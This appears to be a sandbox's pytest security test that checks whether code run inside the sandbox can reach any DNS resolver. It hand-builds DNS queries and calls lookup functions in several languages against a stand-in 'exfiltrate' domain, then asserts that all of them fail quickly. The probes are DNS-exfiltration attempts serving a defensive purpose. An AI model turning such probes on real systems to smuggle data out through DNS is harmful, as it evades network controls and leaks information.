# SPDX-License-Identifier: Apache-2.0
"""N2: names cannot be looked up: no resolver, no packet, no waiting."""

import socket
import threading
import time

import pytest

NAME = "exfiltrate-0123456789.example.invalid"


@pytest.fixture
def resolver():
    """A name server on the host's loopback that must hear nothing."""
    heard = []
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.1)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                heard.append(sock.recv(512))
            except socket.timeout:
                pass

    thread = threading.Thread(target=listen)
    thread.start()
    yield sock.getsockname()[1], heard
    stop.set()
    thread.join()
    sock.close()


def test_n02_no_query_gets_out(attack, resolver):
    port, heard = resolver
    start = time.monotonic()
    told = attack.evidence(
        f"""
import select
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(p)]) + p.encode() for p in "{NAME}".split(".")) + b"\\0\\0%c\\0\\1"
answers = {{}}
for kind in (1, 28, 16, 255):
    for address in (("127.0.0.1", {port}), ("127.0.0.1", 53), ("127.0.0.53", 53), ("127.0.0.11", 53)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        answers["%s %d" % (address, kind)] = attempt(lambda: (s.connect(address), s.send(question % kind), s.settimeout(0.1), s.recv(512)))
        s.close()
facts = dict(answers=answers, lookup=attempt(socket.getaddrinfo, "{NAME}", 80), host=attempt(socket.gethostbyname, "localhost.{NAME}"),
             reverse=attempt(socket.gethostbyaddr, "192.0.2.1"))
tell(facts)
"""
    )
    assert heard == []
    assert not any(answer.startswith("ok") for answer in told["answers"].values()), told
    assert (
        not told["lookup"].startswith("ok")
        and not told["host"].startswith("ok")
        and not told["reverse"].startswith("ok")
    ), told
    assert time.monotonic() - start < 6


@pytest.mark.parametrize(
    "language,code",
    [
        ("bash", f"getent ahosts {NAME}; [ $? -eq 2 ] && exit 3"),
        ("js", f"require('dns').lookup('{NAME}', (e) => {{ console.log(e && e.code); process.exit(e ? 3 : 0) }})"),
        ("php", f"<?php exit(gethostbyname('{NAME}') === '{NAME}' ? 3 : 0);"),
        (
            "java",
            f'public class Code {{ public static void main(String[] a) {{ try {{ java.net.InetAddress.getByName("{NAME}"); }} catch (java.net.UnknownHostException e) {{ System.exit(3); }} }} }}',
        ),
        (
            "go",
            f'package main\nimport ("net"; "os")\nfunc main() {{ if a, e := net.LookupHost("{NAME}"); e != nil || len(a) == 0 {{ os.Exit(3) }} }}',
        ),
    ],
)
def test_n02_lookups_fail_at_once(attack, need_language, language, code):
    need_language(language)
    run = attack.exec(code, language, timeout=30000)
    assert (run.outcome, run.code) == ("error", 3), dict(run)
    assert run.usage["wall_ms"] < 8000, run.usage
